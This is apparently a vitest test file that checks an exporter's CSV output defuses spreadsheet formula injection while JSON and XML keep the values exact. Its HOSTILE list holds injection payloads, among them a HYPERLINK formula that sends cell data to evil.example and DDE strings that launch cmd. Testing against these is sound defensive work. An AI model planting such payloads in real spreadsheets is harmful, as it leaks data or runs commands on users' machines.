/**
 * CSV feeds as a spreadsheet opens them: a cell starting with = + - @ TAB or CR is a formula (or
 * becomes one), so it gets a leading ' (OWASP). JSON and XML carry the same values exactly.
 */
import { describe, expect, it } from 'vitest';
import { toCsv, toJson, toXml } from '../../../../electron/core/views/feeds/tabular';

const COLUMNS = ['Name.Text', 'Team.Text', 'Mark.Text'];

/** RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') record.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
    else field += c;
  }
  return records;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula neutralisation', () => {
  it.each(HOSTILE)('prefixes %j with a single quote in CSV, and keeps it exact in JSON and XML', (name) => {
    const rows = [{ 'Name.Text': name, 'Team.Text': name, 'Mark.Text': '10.41' }];
    const [, cells] = readCsv(toCsv(COLUMNS, rows));
    expect(cells).toEqual([`'${name}`, `'${name}`, '10.41']);
    expect(JSON.parse(toJson(COLUMNS, rows))[0]['Name.Text']).toBe(name);
    const xml = toXml(COLUMNS, rows);
    const text = /<Name\.Text>([^<]*)<\/Name\.Text>/.exec(xml)![1]!;
    expect(text.replace(/&#13;/g, '\r').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&')).toBe(name);
  });

  it('neutralises legitimate marks that start like a formula too (a pass, a signed wind), and leaves the rest alone', () => {
    const rows = [
      { 'Name.Text': 'Ada Lovelace-Byron', 'Team.Text': 'a=b', 'Mark.Text': '-' },
      { 'Name.Text': "O'Brien", 'Team.Text': 'x@y', 'Mark.Text': '+2.4' },
      { 'Name.Text': ' Space first', 'Team.Text': '', 'Mark.Text': '-0.3' },
    ];
    const [header, ...records] = readCsv(toCsv(COLUMNS, rows));
    expect(header).toEqual(COLUMNS);
    expect(records).toEqual([
      ['Ada Lovelace-Byron', 'a=b', "'-"],
      ["O'Brien", 'x@y', "'+2.4"],
      [' Space first', '', "'-0.3"],
    ]);
    expect(JSON.parse(toJson(COLUMNS, rows)).map((r: Record<string, string>) => r['Mark.Text'])).toEqual(['-', '+2.4', '-0.3']);
  });
});
